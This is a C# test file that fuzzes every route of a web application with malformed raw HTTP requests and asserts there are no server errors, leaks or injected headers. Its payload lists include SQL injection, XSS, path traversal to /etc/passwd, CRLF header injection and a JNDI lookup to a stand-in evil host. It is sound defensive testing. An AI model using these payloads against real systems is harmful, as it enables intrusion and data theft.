using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Massar.Features.Accounts.Domain;
using Massar.Infrastructure.Security;
using Massar.Infrastructure.Web;
using Massar.Tests.Support;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;

namespace Massar.Tests.Abuse;

/// <summary>
/// G12: garbage in never breaks or reveals anything. The program runs as a process of its own and gets bytes over sockets,
/// for every listed route, as nobody and as people who may call it. Some of it does what it says (a hat ends), so the world is its own.
/// </summary>
public sealed class MalformedRequestTests(HostileWorld world) : IClassFixture<HostileWorld>
{
    private const int AtLeast = 3_000;
    private const int AtMost = 6_000;
    private const int RolesPerRoute = 3;

    /// <summary>What the malformed requests of one kind of place look like: in the path, in the query, in a field, in JSON.</summary>
    private static readonly string[] BadSegments =
    [
        "0", "-1", "99999999999999999999", "9223372036854775807", "%00", "1%00", "%C0%AF", "%FF%FE", "..%2f..%2fetc%2fpasswd", "'%20OR%201=1%20--%20", "1;DROP%20TABLE%20Pupils", "%3Cscript%3Ealert(1)%3C/script%3E",
        "%0d%0aX-Evil:%201", "%E2%80%AE", "%D9%A1%D9%A2%D9%A3", "%", "%zz", "%7Bid%7D", "null", "NaN", "1e9", "0x1F", "+1", "1.5", "%20", "a%2Fb", "%F0%9F%98%80", "%ED%A0%80", "00000000-0000-0000-0000-000000000000",
    ];

    private static readonly string[] BadQueries =
    [
        "page=-1", "page=99999999999", "page=2147483647", "page=%00", "page=1&page=2", "page[]=1", "lang=%00", "lang=xx&lang=ar", "q=%FF%FE", "q=%E0%80", "q=%27%22%3C%3E", "search=%27%20OR%201=1--", "sort=Name;DROP%20TABLE%20Pupils",
        "back=//evil.example", "back=javascript:alert(1)", "back=%0d%0aX-Evil:1", "year=abc&semester=9&level=%27", "year=-2147483648", "from=0000-00-00&to=9999-99-99", "state=Nonsense&late=maybe", "&&&&===&", "%00=%00", "code=%E2%80%AE%E2%80%AE",
        "semester=0", "semester=99999999999", "number=-5", "year=99999", "q=%25%25%25___", "page=0&size=-1",
    ];

    private static readonly string[] BadValues =
    [
        "", " ", "\0", "a\0b", "\u202e\u2066\u200f", "'; DROP TABLE Pupils; --", "' UNION SELECT 1,2,3 -- ", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example}", "../../../../etc/passwd",
        "99999999999999999999999999", "-1", "0", "1e400", "NaN", "٣٫١٤", "2026-02-30", "0000-00-00", "\ud83d\ude00\ud83d\ude00", "\r\nX-Evil: 1", "%s%n%d", "ﷺ", "\uffff\ufffe", "A\u0301\u0301\u0301\u0301", "true", "[]", "{}",
    ];

    [Fact]
    public async Task No_malformed_request_is_answered_as_an_accident_or_tells_of_the_inside()
    {
        await using var program = new RunningProgram(world.Database, world.State, [new("Massar:Work:Enabled", "false"), new("Logging:LogLevel:Massar.Faults", "Error")]);
        await program.Start();

        var requests = await Requests();
        Assert.True(requests.Count >= AtLeast, $"{requests.Count} requests");
        var faults = new ConcurrentBag<string>();
        var statuses = new ConcurrentDictionary<int, int>();
        var watch = Stopwatch.StartNew();
        await Parallel.ForEachAsync(requests, new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (request, _) =>
        {
            using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(20));
            RawAnswer answer;
            try
            {
                answer = await RawHttp.Send(program.Port, request.Bytes, hangUp: request.Name.EndsWith(" length", StringComparison.Ordinal), patience.Token);
            }
            catch (OperationCanceledException)
            {
                faults.Add($"{request.Name}: no answer in 20 s");
                return;
            }

            statuses.AddOrUpdate(answer.Status, 1, (_, n) => n + 1);
            if (answer.Status >= 500)
                faults.Add($"{request.Name}: {answer.Status}");
            if (Leak.In(answer.Body) is { } leak && answer.Status != 200)
                faults.Add($"{request.Name}: {answer.Status} tells «{leak}»");
            if (answer.Head.Contains("\nX-Evil", StringComparison.OrdinalIgnoreCase) || answer.Head.Contains("\nServer:", StringComparison.OrdinalIgnoreCase))
                faults.Add($"{request.Name}: {answer.Head}");
        });

        Assert.True(faults.IsEmpty, $"{faults.Count} of {requests.Count} in {watch.Elapsed.TotalSeconds:0} s:\n{string.Join('\n', faults.Order(StringComparer.Ordinal).Take(40))}\n{Interesting(program.Log)}");
        Assert.True(program.IsAlive);
        Assert.Equal(200, (await RawHttp.Send(program.Port, Plain("GET", "/health/ready"))).Status);
        // The rubbish has to have reached what it is for: not only the gate.
        Assert.True(statuses.Keys.Count(s => s is >= 400 and < 500) >= 4, string.Join(", ", statuses));
        Assert.True(statuses.GetValueOrDefault(0) < requests.Count / 20, string.Join(", ", statuses));
    }

    private static string Interesting(string log) => string.Join('\n', log.Split('\n').Where(l => l.Contains("Exception", StringComparison.Ordinal) || l.Contains("Massar.F", StringComparison.Ordinal)).Distinct().Take(40));

    private async Task<IReadOnlyList<(string Name, byte[] Bytes)>> Requests()
    {
        var sources = world.App.Services.GetServices<EndpointDataSource>();
        var fields = sources.SelectMany(s => s.Endpoints).OfType<RouteEndpoint>().ToLookup(e => "/" + (e.RoutePattern.RawText ?? "").Trim('/').Replace("//", "/", StringComparison.Ordinal), FieldsOf);
        // Routes that end sessions come last: what follows would only meet the sign-in page.
        var routes = world.Routes.OrderBy(r => EndsSessions(r.Template)).ThenBy(r => r.Template, StringComparer.Ordinal).ToList();
        var made = new List<(string Name, byte[] Bytes)>();
        var turn = 0;
        foreach (var route in routes)
        {
            var names = fields[route.Template].SelectMany(f => f).Distinct().ToList();
            var opening = world.People.Where(p => HostileWorld.Opens(route, p.Role)).ToList();
            // Different roles for different routes, so that all are heard.
            var people = Enumerable.Range(0, Math.Min(RolesPerRoute, opening.Count)).Select(i => opening[(turn + i) % opening.Count]).DistinctBy(p => p.Role).ToList<GivenPerson?>();
            people.Add(null);
            foreach (var person in people)
            {
                var session = person is null ? null : await NewSession(person);
                foreach (var (name, bytes) in Of(route, session, names, turn++))
                    made.Add(($"{person?.Role ?? "anyone"} {route.Method} {route.Template} {name}", bytes));
            }
        }

        if (made.Count <= AtMost)
            return made;
        var step = (double)made.Count / AtMost;
        return [.. Enumerable.Range(0, AtMost).Select(i => made[(int)(i * step)])];
    }

    private static bool EndsSessions(string template) =>
        template.Contains("sign-out", StringComparison.Ordinal) || template.Contains("session", StringComparison.Ordinal) || template.Contains("password", StringComparison.Ordinal)
        || template.Contains("hat", StringComparison.Ordinal) || template.Contains("second-factor", StringComparison.Ordinal);

    private static IEnumerable<(string Name, byte[] Bytes)> Of(RouteEntry route, string? session, IReadOnlyList<string> names, int turn)
    {
        var isApi = route.Template.StartsWith("/api/", StringComparison.Ordinal);
        var path = Addresses.Fill(route.Template);
        var who = session is null ? "" : isApi ? $"Authorization: Bearer {session}\r\n" : $"Cookie: massar={session}; lang=fr\r\n";
        if (route.ChangesState)
            who += "Sec-Fetch-Site: same-origin\r\n" + (session is null || isApi ? "" : $"X-CSRF-Token: {HostileWorld.TokenFor(session)}\r\n");

        if (route.Template.Contains('{', StringComparison.Ordinal))
        {
            foreach (var bad in Some(BadSegments, turn, 8))
                yield return ($"path {bad}", Request(route.Method, Addresses.Fill(route.Template, bad), who, route.ChangesState ? Form("a=1") : null));
            yield return ("path overlong", Request(route.Method, Addresses.Fill(route.Template, new string('A', 5000)), who, route.ChangesState ? Form("a=1") : null));
        }

        foreach (var bad in Some(BadQueries, turn, route.ChangesState ? 2 : 7))
            yield return ($"query {bad}", Request(route.Method, $"{path}?{bad}", who, route.ChangesState ? Form("a=1") : null));

        switch (turn % 8)
        {
            case 0: yield return ("cookie", Request("GET", path, "Cookie: massar=" + new string('é', 60) + "; lang=\u0001; massar-said=%ZZ%1f%1f; css=; =;;\r\n", null)); break;
            case 1: yield return ("bearer", Request("GET", path, "Authorization: Bearer " + new string('x', 150) + "\r\n", null)); break;
            case 2: yield return ("accept", Request("GET", path, $"{who}Accept: \u00ff\u00fe;q=9\r\nAccept-Language: {new string('-', 500)},,;q=x\r\nAccept-Encoding: br;q=NaN\r\n", null)); break;
            case 3: yield return ("htmx", Request("GET", path, $"{who}HX-Request: <script>\r\nHX-Request-Type: \u0000\r\nHX-Source: '\"\r\n", null)); break;
            case 4: yield return ("length", Request(route.Method, path, $"{who}Content-Type: application/json\r\nContent-Length: 5000\r\n", null, "{\"a\":")); break;
            case 5: yield return ("chunks", Request(route.Method, path, $"{who}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n", null, "ZZ\r\n{}\r\n0\r\n\r\n")); break;
            case 6: yield return ("headers", Request("GET", path, who + string.Concat(Enumerable.Range(0, 80).Select(i => $"X-{i}: {i}\r\n")), null)); break;
            default: yield return ("range", Request("GET", path, $"{who}Range: bytes=-1-,99999999999-\r\nIf-Modified-Since: never\r\nIf-None-Match: \"\"\"\r\nForwarded: for=\"_\"\r\nX-Forwarded-For: ';--\r\n", null)); break;
        }

        if (!route.ChangesState)
            yield break;

        var known = names.Count > 0 ? names : ["Any"];
        var key = $"{who}Idempotency-Key: {BadValues[turn % BadValues.Length].ReplaceLineEndings("")}ق{turn}____\r\n";
        if (isApi)
        {
            foreach (var bad in Some(BadValues, turn, 5))
                yield return ($"json {bad}", Request(route.Method, path, who, Json($"{{{string.Join(',', known.Select(n => $"{JsonSerializer.Serialize(n)}:{JsonSerializer.Serialize(bad)}"))}}}")));
            foreach (var bad in (string[])["1", "-1.5e300", "true", "[]", "{}", "null", "[[1]]", "[null]", "\"\\ud800\"", "99999999999999999999"])
                yield return ($"json {bad}", Request(route.Method, path, who, Json($"{{{string.Join(',', known.Select(n => $"{JsonSerializer.Serialize(n)}:{bad}"))}}}")));
            yield return ("json deep", Request(route.Method, path, who, Json(new string('[', 5000) + new string(']', 5000))));
            yield return ("json twice", Request(route.Method, path, who, Json($"{{\"{known[0]}\":\"1\",\"{known[0]}\":\"2\"}}")));
            yield return ("json unknown", Request(route.Method, path, who, Json("{\"role\":\"ministry\",\"schoolId\":1,\"published\":true,\"__proto__\":{}}")));
            yield return ("json cut", Request(route.Method, path, who, Json("{\"a")));
            yield return ("json null", Request(route.Method, path, who, Json("null")));
            yield return ("json empty", Request(route.Method, path, who, Json("")));
            yield return ("json bad UTF-8", Request(route.Method, path, who, ("application/json", [0x7b, 0x22, 0xff, 0xfe, 0xc0, 0x22, 0x3a, 0x31, 0x7d])));
            yield return ("json long", Request(route.Method, path, key, Json($"{{\"{known[0]}\":\"{new string('ق', 70_000)}\"}}")));
            yield return ("text", Request(route.Method, path, who, ("text/plain", "x"u8.ToArray())));
            yield return ("form to api", Request(route.Method, path, who, Form("a=1")));
            yield return ("charset", Request(route.Method, path, who, ("application/json; charset=klingon", "{}"u8.ToArray())));
        }
        else
        {
            foreach (var bad in Some(BadValues, turn, 6))
                yield return ($"form {bad}", Request(route.Method, path, who, Form(string.Join('&', known.Select(n => $"{Uri.EscapeDataString(n)}={Escape(bad)}")))));
            yield return ("form bad UTF-8", Request(route.Method, path, who, Form(string.Join('&', known.Select(n => $"{n}=%FF%FE%C0%80")))));
            yield return ("form NUL", Request(route.Method, path, who, Form(string.Join('&', known.Select(n => $"{n}=%00")))));
            yield return ("form twice", Request(route.Method, path, who, Form(string.Join('&', Enumerable.Repeat(known[0] + "=1", 50)))));
            yield return ("form many", Request(route.Method, path, who, Form(string.Join('&', Enumerable.Range(0, 3000).Select(i => $"k{i}=1")))));
            yield return ("form long key", Request(route.Method, path, who, Form(new string('k', 400) + "=1")));
            yield return ("form long value", Request(route.Method, path, key, Form($"{known[0]}={new string('v', 70_000)}")));
            yield return ("form long text", Request(route.Method, path, key, Form(string.Join('&', known.Select(n => $"{n}={new string('v', 5_000)}")))));
            yield return ("form nested", Request(route.Method, path, who, Form($"{known[0]}[0][a].b=1&{known[0]}.x=2&[=3&]=4")));
            yield return ("json to form", Request(route.Method, path, who, Json("{}")));
            yield return ("multipart cut", Request(route.Method, path, who, ("multipart/form-data; boundary=b", Encoding.UTF8.GetBytes($"--b\r\nContent-Disposition: form-data; name=\"{known[0]}\"\r\n\r\nx"))));
            yield return ("multipart odd", Request(route.Method, path, who, ("multipart/form-data", "--b--"u8.ToArray())));
            yield return ("multipart file", Request(route.Method, path, who, ("multipart/form-data; boundary=b", Encoding.UTF8.GetBytes($"--b\r\nContent-Disposition: form-data; name=\"{known[0]}\"; filename=\"../../x\u0000.xlsx\"\r\nContent-Type: x\r\n\r\nPK\u0003\u0004\r\n--b--\r\n"))));
            yield return ("no type", Request(route.Method, path, $"{who}Content-Length: 3\r\n", null, "a=1"));
        }
    }

    /// <summary>A few of many, others each turn.</summary>
    private static IEnumerable<string> Some(string[] all, int turn, int count) => Enumerable.Range(0, count).Select(i => all[(turn * 5 + i) % all.Length]);

    private static string Escape(string value) => string.Concat(Encoding.UTF8.GetBytes(value).Select(b => $"%{b:X2}"));

    private static (string Type, byte[] Body) Form(string body) => ("application/x-www-form-urlencoded", Encoding.UTF8.GetBytes(body));

    private static (string Type, byte[] Body) Json(string body) => ("application/json", Encoding.UTF8.GetBytes(body));

    private static byte[] Plain(string method, string path) => Request(method, path, "", null);

    private static byte[] Request(string method, string path, string headers, (string Type, byte[] Body)? content, string tail = "")
    {
        var head = $"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n{headers}";
        if (content is { } c)
            head += string.Create(CultureInfo.InvariantCulture, $"Content-Type: {c.Type}\r\nContent-Length: {c.Body.Length}\r\n");
        return [.. Encoding.UTF8.GetBytes(head + "\r\n" + tail), .. content?.Body ?? []];
    }

    /// <summary>The fields a handler reads: its input record's properties.</summary>
    private static IReadOnlyList<string> FieldsOf(RouteEndpoint endpoint) =>
        [.. (endpoint.Metadata.GetMetadata<MethodInfo>()?.GetParameters() ?? [])
            .Where(p => p.ParameterType.Name.EndsWith("Input", StringComparison.Ordinal))
            .SelectMany(p => p.ParameterType.GetProperties(BindingFlags.Public | BindingFlags.Instance)).Select(p => p.Name)];

    private async Task<string> NewSession(GivenPerson person) => (await world.App.SignIn(person, steppedUp: true)).Cookies["massar"];
}
